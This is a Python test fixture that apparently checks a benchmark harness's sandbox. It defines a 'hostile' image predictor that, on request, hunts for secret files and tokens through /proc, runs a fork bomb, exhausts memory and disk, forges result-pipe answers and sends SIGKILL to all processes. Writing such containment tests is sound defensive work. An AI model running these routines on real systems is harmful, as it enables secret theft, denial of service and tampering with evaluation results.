"""A predictor that attacks on request; copied beside the tests' data and loaded from there, as a stranger's would be.

The first voxel of an image names the attack by its place in ATTACKS; 0 is good behaviour.
"""

# Attacks are written as attackers write.
# ruff: noqa: PTH102, PTH208, S108, S607

import contextlib
import fcntl
import json
import mmap
import os
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import numpy as np

import ctbench

COMMON = {"//proc", "//sys", "//usr", "//nix", sys.prefix, sys.base_prefix}


def out():
    """Find the folder that can be written to."""
    return Path(tempfile.gettempdir())


def inputs():
    """Find the folder of the image."""
    return next(Path("/tmp").glob("ctbench-predictor-*/in"))


def nothing(self):
    """Behave."""


def read_masks(self):
    """Look for the secret file under every path that leads anywhere."""
    ways = [self.secret, f"/proc/1/root{self.secret}", f"/proc/self/root{self.secret}", f"/proc/1/cwd{self.secret}"]
    ways += [f"{Path(self.secret).parent}/../{Path(self.secret).parent.name}/{Path(self.secret).name}"]
    ways += [str(found / Path(self.secret).name) for found in Path("/proc").glob("[0-9]*/cwd")]
    for folder, folders, files in os.walk("/"):
        # What everybody may read is large, and the test knows that the file is not there.
        folders[:] = [name for name in folders if f"{folder}/{name}" not in COMMON]
        ways += [f"{folder}/{name}" for name in files if name == Path(self.secret).name]
    seen = []
    for way in ways:
        try:
            seen.append(Path(way).read_bytes())
        except OSError:
            continue
    if seen:
        sys.exit("I read the masks")


def list_dataset(self):
    """List the folder of the secret file."""
    os.listdir(Path(self.secret).parent)


def read_secrets(self):
    """Look for the token in every environment."""
    environments = [repr(dict(os.environ))]
    for path in Path("/proc").glob("[0-9]*/environ"):
        try:
            environments.append(path.read_text(errors="replace"))
        except OSError:
            continue
    if any("hunter2" in one for one in environments):
        sys.exit("I read the token")


def open_socket(self):
    """Call home."""
    socket.create_connection(("127.0.0.1", self.port), timeout=2)


def write_outside(self):
    """Try to leave a file anywhere but in the output and the scratch."""
    places = ["/", "/dev", "/usr/lib", "/etc", "/home", ".", Path(__file__).parent, Path(self.secret).parent]
    places += [Path(np.__file__).parent, inputs(), inputs().parent, Path(sys.prefix), "/proc/sys/kernel"]
    written = []
    for place in places:
        try:
            Path(place, "mark").write_text("I was here")
        except OSError:
            continue
        # What lies under /tmp is scratch here, whatever it is outside; the test looks there.
        written += [str(place)] if not Path(place).absolute().is_relative_to("/tmp") else []
    if written:
        sys.exit(f"I wrote to {written}")


def fork_without_end(self):
    """Start processes that start processes."""
    while True:
        try:
            os.fork()
        except OSError:
            continue


def allocate(self):
    """Want 100 GB."""
    np.ones(100 * 2**30, np.uint8)


def share_memory(self):
    """Want memory of a kind that the system counts otherwise."""
    shared = mmap.mmap(-1, 8 * 2**30)
    for start in range(0, len(shared), 2**20):
        shared[start : start + 2**20] = b"x" * 2**20


def sleep(self):
    """Never come back."""
    while True:
        time.sleep(1)


def print_much(self):
    """Print 1 GB."""
    for _ in range(1024):
        os.write(1, b"x" * 2**20)


def leave_children(self):
    """Answer, but leave a daemon behind."""
    subprocess.Popen(["sleep", "1000"], start_new_session=True)


def answers():
    """Find the pipe to which answers are written."""
    return next(number for number in range(3, 20) if stat.S_ISFIFO(mode_of(number)) and is_writable(number))


def mode_of(number):
    """Return the mode of an open file; 0 if it is not open."""
    try:
        return os.fstat(number).st_mode
    except OSError:
        return 0


def is_writable(number):
    """Whether a file is open for writing."""
    return fcntl.fcntl(number, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY


def forge(promised, sent):
    """Answer in place of the honest process, which then never comes to it: a line and some bytes."""
    frame = sys._getframe()
    while "requests" not in frame.f_locals:  # the frame that read the request, whose number an answer needs
        frame = frame.f_back
    number = json.loads(frame.f_locals["line"])["number"]
    line = json.dumps({"number": number, "score": 1.0, "findings": [], "labels": promised})
    os.write(answers(), line.encode() + b"\n" + b"\1" * sent)
    time.sleep(1000)


def promise_little(self):
    """Answer with one byte, and say so."""
    forge(1, 1)


def promise_much(self):
    """Answer with 10 GB, and say so."""
    forge(10 * 2**30, 2**10)


def promise_nonsense(self):
    """Answer with a number of bytes that is none."""
    forge("192", 192)


def send_less(self):
    """Promise a whole label map, send half of it, and end."""
    signal.signal(signal.SIGALRM, lambda *_: os._exit(3))
    signal.setitimer(signal.ITIMER_REAL, 0.5)
    forge(192, 90)


def forge_answers(self):
    """Write nonsense to wherever answers may go."""
    for handle in range(3, 20):
        try:
            os.write(handle, b'{"number": 1, "score": "perfect"}\n')
        except OSError:
            continue


def die(self):
    """Crash as broken native code does."""
    os.kill(os.getpid(), signal.SIGSEGV)


def leave(self):
    """End the process."""
    os._exit(3)


def fill_disk(self):
    """Write file after file."""
    for number in range(10_000):
        (out() / str(number)).write_bytes(b"x" * 2**20)


def fill_folder(self):
    """Make file after file of nothing."""
    for number in range(1_000_000):
        (out() / str(number)).touch()


def dig(self):
    """Leave a folder deeper than anybody can follow."""
    os.chdir(out())
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/")


def lock_output(self):
    """Take away the rights to clean up."""
    folder = out() / "inner"
    folder.mkdir()
    (folder / "file").touch()
    folder.chmod(0)


def remember(self):
    """Keep more than half of what is allowed."""
    self.hoard = np.ones(300 * 2**20, np.uint8)


def kill_all(self):
    """Kill everything that it may."""
    with contextlib.suppress(ProcessLookupError):  # nobody else is there
        os.kill(-1, signal.SIGKILL)


ATTACKS = (
    nothing,
    read_masks,
    list_dataset,
    read_secrets,
    open_socket,
    write_outside,
    fork_without_end,
    allocate,
    share_memory,
    sleep,
    print_much,
    leave_children,
    promise_little,
    promise_much,
    promise_nonsense,
    send_less,
    forge_answers,
    die,
    leave,
    fill_disk,
    fill_folder,
    dig,
    lock_output,
    remember,
    kill_all,
)


class Hostile:
    """Segments what is bright, and attacks where the image says so."""

    def __init__(self, secret="", port=0):
        self.secret = secret
        self.port = port
        self.info = ctbench.PredictorInfo(name="hostile", version="1", labels=ctbench.LabelSet({"hemorrhage": 1}))

    def predict(self, image):
        """Attack, then behave as if nothing had been."""
        attack = int(image.array[0, 0, 0])
        if 0 <= attack < len(ATTACKS):
            ATTACKS[attack](self)
        return ctbench.Prediction((image.array > 60).astype(np.uint8), score=0.5)


def fail_on_making():
    """Run away when made."""
    time.sleep(1000)
